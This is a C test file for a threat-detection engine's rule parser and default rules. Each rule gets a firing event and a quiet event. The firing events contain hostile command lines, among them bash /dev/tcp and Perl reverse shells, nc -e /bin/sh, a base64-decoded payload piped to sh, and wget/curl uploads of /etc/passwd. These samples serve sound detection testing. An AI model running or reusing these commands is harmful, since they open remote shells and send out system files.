/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Threat rules: the parser's errors, and every rule of rules/default.rules
 * with an event that fires it and one that does not, through the real
 * pipeline (inject source -> baseline stage).
 */
#include <stdlib.h>

#include "../baseline/inject.h"
#include "detect/rules.h"

/* ---- parser --------------------------------------------------------------- */

static const struct {
	const char *text, *err;
} bad[] = {
	{ "rule x severity=high\n  kind = exec\n", "has no 'end'" },
	{ "rule x severity=high\n desc \"d\"\nend\n", "has no condition" },
	{ "rule x severity=high\n kind = exec\nend\n", "has no desc" },
	{ "rule X severity=high\n", "needs an id" },
	{ "rule x severity=urgent\n", "needs severity=" },
	{ "rule x\n", "needs severity=" },
	{ "rule x severity=high\n desc \"d\"\n nosuch.field = 1\nend\n", "unknown field 'nosuch.field'" },
	{ "rule x severity=high\n desc \"d\"\n exec.path ~ a\nend\n", "unknown operator '~'" },
	{ "rule x severity=high\n desc \"d\"\n net.dport glob 1\nend\n", "needs a string field" },
	{ "rule x severity=high\n desc \"d\"\n exec.path < 1\nend\n", "needs an integer field" },
	{ "rule x severity=high\n desc \"d\"\n net.dport = http\nend\n", "is not an integer" },
	{ "rule x severity=high\n desc \"d\"\n exec.path =\nend\n", "has no value" },
	{ "rule x severity=high\n desc \"d\"\n exec.path exists 1\nend\n", "takes no value" },
	{ "rule x severity=high\n desc \"unterminated\nend\n", "unterminated string" },
	{ "rule x severity=high\n desc \"a\\qb\"\nend\n", "unknown escape" },
	{ "rule x severity=high\n desc \"d\"\n kind = exe\nend\n", "unknown kind 'exe'" },
	{ "end\n", "'end' without 'rule'" },
	{ "kind = exec\n", "outside a rule" },
	{ "rule x severity=high\n desc \"d\"\n kind = exec\nend\nrule x severity=low\n", "duplicate rule id" },
	{ "rule x severity=high\n desc \"d\"\n desc \"e\"\n", "once" },
	{ "rule x severity=high\n desc \"d\"\"e\"\n", "text right after a closing quote" },
	{ "\"rule\" x\n", "not a string" },
	{ "rule x severity=high\n tags\n", "needs at least one tag" },
	{ "rule x severity=high\n tags T1 \"T2\"\n", "bad tag" },
	{ "rule x severity=high\n tags T1\n tags T2\n", "'tags' twice" },
	{ "rule x severity=high\n tags a$b\n", "bad tag" },
};

Test(rules_parse, errors_name_the_line_and_reason)
{
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		struct ruleset *rs = NULL;
		char err[256] = "";
		int r = rules_parse(bad[i].text, strlen(bad[i].text), &rs, err, sizeof(err));

		cr_expect_eq(r, -EBADMSG, "case %zu: %d", i, r);
		cr_expect_null(rs);
		cr_expect(strncmp(err, "line ", 5) == 0, "case %zu: %s", i, err);
		cr_expect(strstr(err, bad[i].err), "case %zu: '%s' lacks '%s'", i, err, bad[i].err);
	}
}

Test(rules_parse, limits_and_good_file)
{
	static const char good[] =
		"# comment\n\nrule a-1 severity=low   # trailing comment\n"
		"  desc \"x \\\"quoted\\\" \\\\ y\"\n  kind = exec\n  exec.argc > 2\n"
		"  exec.path !glob \"/usr/*\"\n  exec.cwd exists\n  exec.parent_exe missing\nend\n";
	struct ruleset *rs = NULL;
	char *huge;
	char err[128];

	cr_assert_eq(rules_parse(good, strlen(good), &rs, err, sizeof(err)), 0, "%s", err);
	cr_assert_eq(rs->n, 1);
	cr_assert_str_eq(rs->rules[0].desc, "x \"quoted\" \\ y");
	cr_assert_eq(rs->rules[0].nconds, 5);
	cr_assert_eq(rs->rules[0].kind, SENSOR_KIND_EXEC);
	rules_free(rs);
	huge = calloc(1, RULES_TEXT_MAX + 2);
	memset(huge, '#', RULES_TEXT_MAX + 1);
	cr_assert_eq(rules_parse(huge, RULES_TEXT_MAX + 1, &rs, err, sizeof(err)), -E2BIG);
	free(huge);
	/* the embedded default rules parse */
	cr_assert_eq(rules_parse(rules_default_text, rules_default_len, &rs, err, sizeof(err)), 0,
		     "%s", err);
	cr_assert_geq(rs->n, 12);
	rules_free(rs);
}

/* ---- every default rule: fires, and does not ------------------------------ */

struct fld {
	const char *name, *value;
};

struct evspec {
	enum sensor_kind kind;
	const char *wl;        /* NULL: a host process */
	struct fld f[6];
	const char *argv[6];
};

struct case_ {
	const char *rule;
	struct evspec fire, quiet;
};

#define EX SENSOR_KIND_EXEC
#define FI SENSOR_KIND_FILE
#define NE SENSOR_KIND_NET
#define SY SENSOR_KIND_SYSCALL

static const struct case_ cases[] = {
	{ "reverse-shell-devtcp",
	  { EX, "c", { { "exec.path", "/bin/bash" }, { "process.cmdline", "bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1" } } },
	  { EX, "c", { { "exec.path", "/bin/bash" }, { "process.cmdline", "bash -c ls /dev/" } } } },
	{ "shell-from-network-tool",
	  { EX, "c", { { "exec.path", "/bin/sh" }, { "exec.parent_exe", "/usr/bin/ncat" } } },
	  { EX, "c", { { "exec.path", "/bin/sh" }, { "exec.parent_exe", "/usr/sbin/sshd" } } } },
	{ "shell-interactive-netcat",
	  { EX, "c", { { "exec.path", "/usr/bin/nc" } }, { "nc", "-e", "/bin/sh", "203.0.113.5", "4444" } },
	  { EX, "c", { { "exec.path", "/usr/bin/nc" } }, { "nc", "-v", "10.0.0.1", "80" } } },
	{ "write-binary-dir",
	  { FI, "c", { { "file.op", "write" }, { "file.path", "/usr/bin/ls" } } },
	  { FI, "c", { { "file.op", "open" }, { "file.path", "/usr/bin/ls" } } } },
	{ "write-etc",
	  { FI, "c", { { "file.op", "create" }, { "file.path", "/etc/cron.d/evil" } } },
	  { FI, "c", { { "file.op", "write" }, { "file.path", "/etcetera/notes" } } } },
	{ "read-credential-store",
	  { FI, "c", { { "file.op", "open" }, { "file.path", "/root/.ssh/id_ed25519" } } },
	  { FI, "c", { { "file.op", "open" }, { "file.path", "/root/.ssh/known_hosts" } } } },
	{ "ptrace",
	  { SY, "c", { { "syscall.name", "ptrace" } } },
	  { SY, "c", { { "syscall.name", "prctl" } } } },
	{ "module-load",
	  { SY, NULL, { { "syscall.name", "finit_module" } } },
	  { SY, NULL, { { "syscall.name", "uname" } } } },
	{ "container-mount-ns",
	  { SY, "c", { { "syscall.name", "unshare" } } },
	  { SY, NULL, { { "syscall.name", "unshare" } } } },
	{ "miner-port",
	  { NE, "c", { { "net.op", "connect" }, { "net.proto", "tcp" }, { "net.dst", "198.51.100.7" }, { "net.dport", "3333" } } },
	  { NE, "c", { { "net.op", "connect" }, { "net.proto", "tcp" }, { "net.dst", "198.51.100.7" }, { "net.dport", "443" } } } },
	{ "miner-exec",
	  { EX, "c", { { "exec.path", "/tmp/.x/xmrig" } } },
	  { EX, "c", { { "exec.path", "/usr/bin/xz" } } } },
	{ "miner-stratum-arg",
	  { EX, "c", { { "exec.path", "/tmp/.x/kworker" } }, { "kworker", "-o", "stratum+tcp://pool.example:3333" } },
	  { EX, "c", { { "exec.path", "/usr/bin/curl" } }, { "curl", "https://example.com" } } },
	{ "container-drift",
	  { EX, "c", { { "exec.path", "/tmp/x" }, { "exec.drift", "1" } } },
	  { EX, NULL, { { "exec.path", "/tmp/x" }, { "exec.drift", "1" } } } },
	{ "persistence-write",
	  { FI, "c", { { "file.op", "create" }, { "file.path", "/root/.ssh/authorized_keys" } } },
	  { FI, "c", { { "file.op", "open" }, { "file.path", "/root/.ssh/authorized_keys" } } } },
	{ "persistence-tool",
	  { EX, "c", { { "exec.path", "/usr/bin/crontab" } } },
	  { EX, "c", { { "exec.path", "/usr/bin/cron-report" } } } },
	{ "setuid-bit",
	  { EX, "c", { { "exec.path", "/bin/chmod" } }, { "chmod", "u+s", "/tmp/x" } },
	  { EX, "c", { { "exec.path", "/bin/chmod" } }, { "chmod", "0644", "/tmp/x" } } },
	{ "shell-interactive-tty",
	  { EX, "c", { { "exec.path", "/bin/bash" }, { "process.tty", "pts0" } } },
	  { EX, "c", { { "exec.path", "/bin/bash" }, { "process.tty", "(none)" } } } },
	{ "shell-interactive-flag",
	  { EX, "c", { { "exec.path", "/bin/sh" } }, { "sh", "-i" } },
	  { EX, "c", { { "exec.path", "/bin/sh" } }, { "sh", "-c", "ls" } } },
	{ "reverse-shell-interpreter",
	  { EX, "c", { { "exec.path", "/usr/bin/perl" }, { "process.cmdline", "perl -e use Socket;connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));exec(\"/bin/sh -i\")" } },
	    { "perl", "-e", "use Socket;connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));exec(\"/bin/sh -i\")" } },
	  { EX, "c", { { "exec.path", "/usr/bin/perl" }, { "process.cmdline", "perl -e print 1" } }, { "perl", "-e", "print 1" } } },
	{ "kernel-module-tool",
	  { EX, "c", { { "exec.path", "/sbin/insmod" } }, { "insmod", "/tmp/rootkit.ko" } },
	  { EX, "c", { { "exec.path", "/sbin/ifconfig" } } } },
	{ "container-ns-tool",
	  { EX, "c", { { "exec.path", "/usr/bin/nsenter" } }, { "nsenter", "-t", "1", "-m" } },
	  { EX, NULL, { { "exec.path", "/usr/bin/nsenter" } }, { "nsenter", "-t", "1", "-m" } } },
	{ "setuid-bit-syscall",
	  { FI, "c", { { "file.op", "attrib" }, { "file.path", "/tmp/x" }, { "file.mode", "2541" } } },
	  { FI, "c", { { "file.op", "attrib" }, { "file.path", "/tmp/x" }, { "file.mode", "493" } } } },
	{ "identity-change-root",
	  { SY, "c", { { "syscall.name", "setuid" }, { "syscall.arg0", "0" }, { "syscall.ret", "-1" } } },
	  { SY, "c", { { "syscall.name", "setuid" }, { "syscall.arg0", "33" } } } },
	{ "identity-tool",
	  { EX, "c", { { "exec.path", "/bin/su" } }, { "su", "root" } },
	  { EX, "c", { { "exec.path", "/bin/sum" } } } },
	{ "decoded-payload-shell",
	  { EX, "c", { { "exec.path", "/bin/sh" }, { "process.cmdline", "sh -c echo aWQK | base64 -d | sh" } }, { "sh", "-c", "echo aWQK | base64 -d | sh" } },
	  { EX, "c", { { "exec.path", "/bin/sh" }, { "process.cmdline", "sh -c echo aWQK | base64 -d > /tmp/out" } }, { "sh", "-c", "echo aWQK | base64 -d > /tmp/out" } } },
	{ "network-tool-listener",
	  { EX, "c", { { "exec.path", "/usr/bin/nc" } }, { "nc", "-lvp", "4444" } },
	  { EX, "c", { { "exec.path", "/usr/bin/nc" } }, { "nc", "-v", "10.0.0.1", "80" } } },
	{ "network-tool-listen-syscall",
	  { NE, "c", { { "net.op", "listen" }, { "process.cmdline", "nc -l -p 4444" } } },
	  { NE, "c", { { "net.op", "listen" }, { "process.cmdline", "nginx -g daemon off;" } } } },
	{ "network-tool-connect",
	  { NE, "c", { { "net.op", "connect" }, { "process.cmdline", "nc 10.0.0.1 80" }, { "net.dst", "10.0.0.1" }, { "net.dport", "80" } } },
	  { NE, "c", { { "net.op", "connect" }, { "process.cmdline", "wget http://10.0.0.1/" }, { "net.dst", "10.0.0.1" }, { "net.dport", "80" } } } },
	{ "network-scan",
	  { EX, "c", { { "exec.path", "/usr/bin/nc" } }, { "nc", "-zv", "10.0.0.1", "1-1024" } },
	  { EX, "c", { { "exec.path", "/usr/bin/nc" } }, { "nc", "10.0.0.1", "80" } } },
	{ "exfil-upload",
	  { EX, "c", { { "exec.path", "/usr/bin/wget" } }, { "wget", "--post-file=/etc/passwd", "http://x/" } },
	  { EX, "c", { { "exec.path", "/usr/bin/wget" } }, { "wget", "-q", "http://x/" } } },
	{ "exfil-upload-curl",
	  { EX, "c", { { "exec.path", "/usr/bin/curl" } }, { "curl", "-T", "/etc/passwd", "http://x/" } },
	  { EX, "c", { { "exec.path", "/usr/bin/curl" } }, { "curl", "-s", "http://x/" } } },
	{ "suid-discovery",
	  { EX, "c", { { "exec.path", "/usr/bin/find" } }, { "find", "/", "-perm", "-4000" } },
	  { EX, "c", { { "exec.path", "/usr/bin/find" } }, { "find", "/", "-perm", "-0644" } } },
	{ "credential-search",
	  { EX, "c", { { "exec.path", "/bin/grep" } }, { "grep", "-ri", "password", "/etc" } },
	  { EX, "c", { { "exec.path", "/bin/grep" } }, { "grep", "-i", "error", "/var/log/app.log" } } },
	{ "history-tamper",
	  { FI, "c", { { "file.op", "delete" }, { "file.path", "/root/.bash_history" } } },
	  { FI, "c", { { "file.op", "open" }, { "file.path", "/root/.bash_history" } } } },
	{ "log-tamper",
	  { FI, "c", { { "file.op", "delete" }, { "file.path", "/var/log/auth.log" } } },
	  { FI, "c", { { "file.op", "create" }, { "file.path", "/var/log/app.log" } } } },
	{ "timestomp",
	  { EX, "c", { { "exec.path", "/bin/touch" } }, { "touch", "-r", "/bin/ls", "/tmp/x" } },
	  { EX, "c", { { "exec.path", "/bin/touch" } }, { "touch", "/tmp/x" } } },
	{ "fileless-exec",
	  { EX, "c", { { "exec.path", "/proc/self/fd/3" }, { "process.exe", "/memfd:payload (deleted)" } } },
	  { EX, "c", { { "exec.path", "/proc/self/fd/3" }, { "process.exe", "/memfd:runc_cloned:/proc/self/exe (deleted)" } } } },
};

static void emit_spec(struct tb *t, const struct evspec *s, uint64_t at)
{
	sensor_event *ev = tb_new(t, s->kind, s->wl, NULL, at);
	int argc = 0;

	for (int i = 0; i < 6 && s->f[i].name; i++) {
		int f = sensor_field_from_name(s->f[i].name);

		if (strcmp(s->f[i].name, "syscall.arg0") == 0) {
			uint64_t a = strtoull(s->f[i].value, NULL, 10);

			cr_assert_eq(sensor_event_set_args(ev, &a, 1), 0);
			continue;
		}
		cr_assert_gt(f, 0, "%s", s->f[i].name);
		if (sensor_field_type((enum sensor_field)f) == SENSOR_FIELD_TYPE_INT)
			cr_assert_eq(sensor_event_set_int(ev, (enum sensor_field)f,
							  strtoll(s->f[i].value, NULL, 10)), 0);
		else
			cr_assert_eq(sensor_event_set_str(ev, (enum sensor_field)f, s->f[i].value), 0);
	}
	while (argc < 6 && s->argv[argc])
		argc++;
	if (argc)
		cr_assert_eq(sensor_event_set_argv(ev, s->argv, argc), 0);
	tb_emit(t, ev);
}

Test(default_rules, each_fires_and_each_stays_quiet)
{
	struct ruleset *rs;
	char err[128];

	/* every default rule has a case */
	cr_assert_eq(rules_parse(rules_default_text, rules_default_len, &rs, err, sizeof(err)), 0);
	for (unsigned i = 0; i < rs->n; i++) {
		size_t k;

		for (k = 0; k < sizeof(cases) / sizeof(cases[0]); k++)
			if (strcmp(cases[k].rule, rs->rules[i].id) == 0)
				break;
		cr_expect(k < sizeof(cases) / sizeof(cases[0]), "default rule %s has no test",
			  rs->rules[i].id);
	}
	rules_free(rs);

	for (size_t k = 0; k < sizeof(cases) / sizeof(cases[0]); k++) {
		struct tb t;

		tb_open(&t, NULL);
		emit_spec(&t, &cases[k].quiet, T0);
		cr_expect_eq(t.n, 0, "%s fired on its quiet event: %s", cases[k].rule,
			     t.n ? t.a[0].json : "");
		emit_spec(&t, &cases[k].fire, T0 + SEC);
		cr_expect_eq(tb_count(&t, cases[k].rule), 1, "%s did not fire (%d alerts)",
			     cases[k].rule, t.n);
		tb_close(&t);
	}
}

/* Rules carry MITRE ATT&CK tags, and so do their alerts. */
Test(default_rules, every_rule_and_its_alert_carry_tags)
{
	static const char text[] = "rule t severity=high\n desc \"d\"\n tags T1611 TA0004 container\n"
				   " kind = syscall\n syscall.name = setuid\n syscall.arg0 < 1\nend\n";
	struct ruleset *rs;
	char err[128], path[] = "/tmp/rules-tags-XXXXXX";
	struct sensor_baseline_opts o = { .sz = sizeof(o), .rules_path = path,
					  .flags = SENSOR_BASELINE_NO_DEFAULT_RULES };
	uint64_t a0 = 0;
	sensor_event *ev;
	struct tb t;
	int fd;

	cr_assert_eq(rules_parse(rules_default_text, rules_default_len, &rs, err, sizeof(err)), 0);
	for (unsigned i = 0; i < rs->n; i++)
		cr_expect(rs->rules[i].ntags > 0 && strchr(rs->rules[i].tags, 'T') != NULL,
			  "rule %s has no MITRE tag", rs->rules[i].id);
	rules_free(rs);
	fd = mkstemp(path);
	cr_assert_geq(fd, 0);
	cr_assert_eq(write(fd, text, sizeof(text) - 1), (ssize_t)sizeof(text) - 1);
	close(fd);
	tb_open(&t, &o);
	ev = tb_new(&t, SENSOR_KIND_SYSCALL, "c", NULL, T0);
	cr_assert_eq(sensor_event_set_str(ev, SENSOR_FIELD_SYSCALL_NAME, "setuid"), 0);
	cr_assert_eq(sensor_event_set_args(ev, &a0, 1), 0);
	tb_emit(&t, ev);
	cr_assert_eq(t.n, 1);
	cr_assert(strstr(t.a[0].json, "\"tags\":[\"T1611\",\"TA0004\",\"container\"]") != NULL, "%s",
		  t.a[0].json);
	tb_close(&t);
	unlink(path);
}

/* With NO_DEFAULT_RULES a rules file is all the rules (docs/rules.md). */
Test(default_rules, custom_rules_file_replaces_defaults)
{
	static const char text[] = "rule only-curl severity=info\n desc \"curl ran\"\n"
				   " kind = exec\n exec.path glob \"*/curl\"\nend\n";
	char path[] = "/tmp/rules-test-XXXXXX";
	int fd = mkstemp(path);
	struct sensor_baseline_opts o = { .sz = sizeof(o), .rules_path = path,
					  .flags = SENSOR_BASELINE_NO_DEFAULT_RULES };
	struct tb t;

	cr_assert_geq(fd, 0);
	cr_assert_eq(write(fd, text, sizeof(text) - 1), (ssize_t)sizeof(text) - 1);
	close(fd);
	tb_open(&t, &o);
	tb_exec(&t, "c", NULL, "/usr/bin/curl", NULL, T0);
	tb_exec(&t, "c", NULL, "/tmp/xmrig", NULL, T0 + 1);
	cr_assert_eq(tb_count(&t, "only-curl"), 1);
	cr_assert_eq(t.n, 1);
	cr_assert_eq(t.a[0].sev, SENSOR_SEVERITY_INFO);
	tb_close(&t);
	unlink(path);
}

/* ---- lists, macros, exceptions -------------------------------------------- */

static const char maintained[] =
	"list shells sh bash dash\n"
	"list shell_paths \"*/sh\" \"*/bash\" \"*/dash\"\n"
	"list more_shells @shell_paths \"*/zsh\"\n"
	"list tool_paths \"*/nc\" \"*/socat\"\n"
	"macro in_container\n"
	"  workload.kind = container pod\n"
	"end\n"
	"macro spawned\n"
	"  kind = exec\n"
	"end\n"
	"rule shell-in-container severity=medium\n"
	"  desc \"a shell started in a container\"\n"
	"  use spawned\n"
	"  use in_container\n"
	"  exec.path glob @more_shells\n"
	"  except exec.parent_exe = /usr/bin/tini\n"
	"  except workload.id prefix ci-\n"
	"end\n"
	"rule tool-in-container severity=high\n"
	"  desc \"a network tool in a container\"\n"
	"  use spawned\n"
	"  use in_container\n"
	"  exec.path glob @tool_paths\n"
	"end\n";

Test(rules_lang, lists_macros_and_exceptions_parse)
{
	struct ruleset *rs = NULL;
	char err[256] = "";

	cr_assert_eq(rules_parse(maintained, strlen(maintained), &rs, err, sizeof(err)), 0, "%s", err);
	cr_assert_eq(rs->n, 2);
	cr_assert_eq(rs->nlists, 4);
	cr_assert_eq(rs->nmacros, 2);
	cr_assert_eq(rs->lists[2].n, 4, "@shell_paths expanded into more_shells");
	cr_assert_str_eq(rs->lists[2].vals[3], "*/zsh");
	/* use spawned + use in_container + exec.path: three conditions */
	cr_assert_eq(rs->rules[0].nconds, 3);
	cr_assert_eq(rs->rules[0].kind, SENSOR_KIND_EXEC, "a macro's kind is the rule's");
	cr_assert_eq(rs->rules[0].conds[2].nvals, 4, "@more_shells: its four values");
	cr_assert_eq(rs->rules[0].nexcepts, 2);
	cr_assert_eq(rs->rules[1].nexcepts, 0);
	rules_free(rs);
}

Test(rules_lang, exceptions_silence_and_macros_match)
{
	char path[] = "/tmp/rules-lang-XXXXXX";
	int fd = mkstemp(path);
	struct sensor_baseline_opts o = { .sz = sizeof(o), .rules_path = path,
					  .flags = SENSOR_BASELINE_NO_DEFAULT_RULES };
	struct tb t;

	cr_assert_geq(fd, 0);
	cr_assert_eq(write(fd, maintained, sizeof(maintained) - 1), (ssize_t)sizeof(maintained) - 1);
	close(fd);
	tb_open(&t, &o);
	tb_exec(&t, NULL, NULL, "/bin/bash", NULL, T0); /* host: the macro says container */
	cr_expect_eq(t.n, 0, "the in_container macro keeps host shells out");
	tb_exec(&t, "web-1", NULL, "/usr/bin/zsh", "/usr/sbin/nginx", T0 + SEC);
	cr_expect_eq(tb_count(&t, "shell-in-container"), 1, "a list value (via a nested list) fires");
	tb_exec(&t, "web-2", NULL, "/bin/sh", "/usr/bin/tini", T0 + 2 * SEC);
	cr_expect_eq(tb_count(&t, "shell-in-container"), 1, "except parent tini: silenced");
	tb_exec(&t, "ci-runner-7", NULL, "/bin/sh", "/usr/sbin/nginx", T0 + 3 * SEC);
	cr_expect_eq(tb_count(&t, "shell-in-container"), 1, "except workload prefix ci-: silenced");
	tb_exec(&t, "web-3", NULL, "/usr/bin/nc", "/usr/bin/tini", T0 + 4 * SEC);
	cr_expect_eq(tb_count(&t, "tool-in-container"), 1,
		     "another rule's exception does not silence this one");
	tb_close(&t);
	unlink(path);
}

Test(rules_lang, a_later_file_uses_an_earlier_files_lists_and_macros)
{
	static const char later[] = "rule web-shell severity=high\n"
				    "  desc \"d\"\n  use spawned\n  exec.path glob @shell_paths\nend\n";
	struct ruleset *first = NULL, *second = NULL;
	char err[256] = "";

	cr_assert_eq(rules_parse(maintained, strlen(maintained), &first, err, sizeof(err)), 0);
	cr_assert_eq(rules_parse(later, strlen(later), &second, err, sizeof(err)), -EBADMSG,
		     "alone, the names are unknown");
	cr_expect_not_null(strstr(err, "unknown macro 'spawned'"), "%s", err);
	cr_assert_eq(rules_parse_with(later, strlen(later), first, &second, err, sizeof(err)), 0,
		     "%s", err);
	cr_expect_eq(second->rules[0].conds[1].nvals, 3);
	rules_free(second);
	rules_free(first);
}

static const struct {
	const char *text, *err;
} bad_lang[] = {
	{ "rule x severity=high\n desc \"d\"\n exec.path glob @nosuch\nend\n",
	  "line 3, column 17: unknown list 'nosuch'" },
	{ "rule x severity=high\n desc \"d\"\n use nosuch\nend\n", "line 3, column 6: unknown macro 'nosuch'" },
	{ "list a x\nlist a y\n", "line 2, column 6: duplicate list 'a'" },
	{ "list a\n", "list 'a' has no value" },
	{ "list A x\n", "'list' needs a name" },
	{ "list a @a\n", "line 1, column 8: list 'a' refers to itself" },
	{ "macro m\n kind = exec\nend\nmacro m\n kind = exec\nend\n", "duplicate macro 'm'" },
	{ "macro m\nend\n", "macro 'm' has no condition" },
	{ "macro m\n kind = exec\n", "macro 'm' has no 'end'" },
	{ "macro m\n desc \"d\"\nend\n", "a macro has no desc" },
	{ "macro m\n except kind = exec\nend\n", "'except' belongs in a rule" },
	{ "macro m\n kind = file\nend\nrule x severity=high\n desc \"d\"\n kind = exec\n use m\nend\n",
	  "macro 'm' is about another kind" },
	{ "rule x severity=high\n desc \"d\"\n kind = exec\n except\nend\n", "'except' needs a field" },
	{ "rule x severity=high\n desc \"d\"\n kind = exec\n except net.dport = http\nend\n",
	  "line 4, column 21: 'http' is not an integer" },
	{ "use m\n", "outside a rule" },
	{ "rule x severity=high\n desc \"d\"\n  nosuch.field = 1\nend\n", "line 3, column 3: unknown field" },
};

Test(rules_lang, errors_name_line_and_column)
{
	for (size_t i = 0; i < sizeof(bad_lang) / sizeof(bad_lang[0]); i++) {
		struct ruleset *rs = NULL;
		char err[256] = "";
		int r = rules_parse(bad_lang[i].text, strlen(bad_lang[i].text), &rs, err, sizeof(err));

		cr_expect_eq(r, -EBADMSG, "case %zu: %d", i, r);
		cr_expect_null(rs);
		cr_expect(strstr(err, bad_lang[i].err), "case %zu: '%s' lacks '%s'", i, err,
			  bad_lang[i].err);
	}
}

/* A string a pattern of this operator matches: '*' and '?' become 'x', a class its first member. */
static void example_of(uint8_t op, const char *pat, char *out, size_t cap)
{
	size_t o = 0;

	if (op == ROP_CONTAINS)
		out[o++] = 'x';
	for (const char *p = pat; *p && o + 2 < cap; p++) {
		if (op != ROP_GLOB) {
			out[o++] = *p;
		} else if (*p == '*' || *p == '?') {
			out[o++] = 'x';
		} else if (*p == '[') {
			p++;
			if (*p == '!' || *p == '^')
				p++;
			out[o++] = *p;
			while (p[1] && *p != ']')
				p++;
		} else if (*p == '\\' && p[1]) {
			out[o++] = *++p;
		} else {
			out[o++] = *p;
		}
	}
	if (op == ROP_PREFIX || op == ROP_CONTAINS)
		out[o++] = 'x';
	out[o] = '\0';
}

/*
 * Every value of every listed condition fires its rule, one at a time: the
 * case's firing event with that one field set to a string the value matches
 * (read-credential-store's every glob, workload.kind = pod, net.op flow_new
 * and packet, every miner port...). A value the matcher dropped fails here.
 */
Test(default_rules, every_value_of_every_condition_fires)
{
	struct ruleset *rs;
	char err[128];
	int tried = 0;

	cr_assert_eq(rules_parse(rules_default_text, rules_default_len, &rs, err, sizeof(err)), 0);
	for (size_t k = 0; k < sizeof(cases) / sizeof(cases[0]); k++) {
		const struct rule *r = NULL;

		for (unsigned i = 0; i < rs->n; i++)
			if (strcmp(rs->rules[i].id, cases[k].rule) == 0)
				r = &rs->rules[i];
		cr_assert_not_null(r, "%s", cases[k].rule);
		for (unsigned j = 0; j < r->nconds; j++) {
			const struct rule_cond *c = &r->conds[j];
			const char *fname;

			if (c->field <= RULE_FIELD_ARG0)
				continue; /* syscall.argN: the case's own event sets the register */
			fname = c->field == RULE_FIELD_ARGV ? "exec.argv"
							   : sensor_field_name((enum sensor_field)c->field);

			if (c->field == SENSOR_FIELD_KIND || (c->op != ROP_EQ && c->op != ROP_GLOB &&
							      c->op != ROP_PREFIX && c->op != ROP_CONTAINS))
				continue;
			for (unsigned v = 0; v < c->nvals; v++) {
				struct evspec s = cases[k].fire;
				char val[RULE_VALUE_LEN + 4], ival[32];
				const char *set = val;
				struct tb t;
				int i;

				if (c->is_int) {
					snprintf(ival, sizeof(ival), "%lld", (long long)c->ivals[v]);
					set = ival;
				} else {
					example_of(c->op, c->svals[v], val, sizeof(val));
				}
				if (c->field == RULE_FIELD_ARGV) {
					/* the element that matched this condition takes the value */
					for (i = 0; i < 6 && s.argv[i]; i++) {
						bool m = false;

						for (unsigned w = 0; w < c->nvals; w++)
							m = m || glob_match(&c->pats[w], s.argv[i],
									    strlen(s.argv[i]));
						if (m)
							break;
					}
					cr_assert(i < 6 && s.argv[i], "%s: no argv element matches", r->id);
					s.argv[i] = set;
				} else {
					for (i = 0; i < 6 && s.f[i].name && strcmp(s.f[i].name, fname); i++)
						;
					cr_assert_lt(i, 6, "%s: no room for %s", r->id, fname);
					s.f[i].name = fname;
					s.f[i].value = set;
				}
				tb_open(&t, NULL);
				emit_spec(&t, &s, T0);
				cr_expect_eq(tb_count(&t, r->id), 1, "%s: %s = '%s' (value %u) did not fire",
					     r->id, fname, set, v);
				tb_close(&t);
				tried++;
			}
		}
	}
	cr_log_info("%d values tried", tried);
	cr_assert_gt(tried, 40);
	rules_free(rs);
}

static int nmatch;

static void count_match(void *ud, const struct rule *r, const sensor_event *ev)
{
	(void)ud;
	(void)r;
	(void)ev;
	nmatch++;
}

/* Match text against one event built from (field, value) pairs; returns the matches. */
static int match_one(const char *text, enum sensor_kind k, const struct fld *f)
{
	struct ruleset *rs;
	sensor_ctx *ctx;
	sensor_source *src;
	sensor_event *ev;
	char err[128];
	int n;

	cr_assert_eq(rules_parse(text, strlen(text), &rs, err, sizeof(err)), 0, "%s", err);
	cr_assert_eq(sensor_ctx_new(NULL, &ctx), 0);
	cr_assert_eq(sensor_source_add(ctx, SENSOR_SOURCE_INJECT, NULL, &src), 0);
	cr_assert_eq(sensor_inject_new(src, k, &ev), 0);
	for (int i = 0; f[i].name; i++) {
		int fl = sensor_field_from_name(f[i].name);

		cr_assert_gt(fl, 0, "%s", f[i].name);
		if (sensor_field_type((enum sensor_field)fl) == SENSOR_FIELD_TYPE_INT)
			cr_assert_eq(sensor_event_set_int(ev, (enum sensor_field)fl,
							  strtoll(f[i].value, NULL, 10)), 0);
		else
			cr_assert_eq(sensor_event_set_str(ev, (enum sensor_field)fl, f[i].value), 0);
	}
	nmatch = 0;
	n = rules_match(rs, ev, count_match, NULL);
	cr_assert_eq(n, nmatch);
	sensor_event_unref(ev);
	sensor_ctx_free(ctx);
	rules_free(rs);
	return n;
}

#define RULE(conds) "rule r severity=low\n desc \"d\"\n" conds "end\n"

/* The matcher's operators at their edges: < and > are strict, != and !glob negate, kind gates. */
Test(rules_match, operators_at_their_edges)
{
	struct fld d1023[] = { { "net.dport", "1023" }, { 0 } }, d1024[] = { { "net.dport", "1024" }, { 0 } },
		    d1025[] = { { "net.dport", "1025" }, { 0 } };
	struct fld sh[] = { { "process.comm", "sh" }, { 0 } }, bash[] = { { "process.comm", "bash" }, { 0 } };
	struct fld usr[] = { { "exec.path", "/usr/bin/id" }, { 0 } }, tmp[] = { { "exec.path", "/tmp/id" }, { 0 } };

	cr_assert_eq(match_one(RULE(" net.dport < 1024\n"), SENSOR_KIND_NET, d1023), 1);
	cr_assert_eq(match_one(RULE(" net.dport < 1024\n"), SENSOR_KIND_NET, d1024), 0);
	cr_assert_eq(match_one(RULE(" net.dport > 1024\n"), SENSOR_KIND_NET, d1025), 1);
	cr_assert_eq(match_one(RULE(" net.dport > 1024\n"), SENSOR_KIND_NET, d1024), 0);
	cr_assert_eq(match_one(RULE(" net.dport != 1024 80\n"), SENSOR_KIND_NET, d1024), 0);
	cr_assert_eq(match_one(RULE(" net.dport != 1024 80\n"), SENSOR_KIND_NET, d1025), 1);
	cr_assert_eq(match_one(RULE(" process.comm != sh dash\n"), SENSOR_KIND_EXEC, sh), 0);
	cr_assert_eq(match_one(RULE(" process.comm != sh dash\n"), SENSOR_KIND_EXEC, bash), 1);
	cr_assert_eq(match_one(RULE(" exec.path !glob \"/usr/*\"\n"), SENSOR_KIND_EXEC, usr), 0);
	cr_assert_eq(match_one(RULE(" exec.path !glob \"/usr/*\"\n"), SENSOR_KIND_EXEC, tmp), 1);
	cr_assert_eq(match_one(RULE(" exec.path prefix /usr/\n"), SENSOR_KIND_EXEC, usr), 1);
	cr_assert_eq(match_one(RULE(" exec.path contains bin/i\n"), SENSOR_KIND_EXEC, usr), 1);
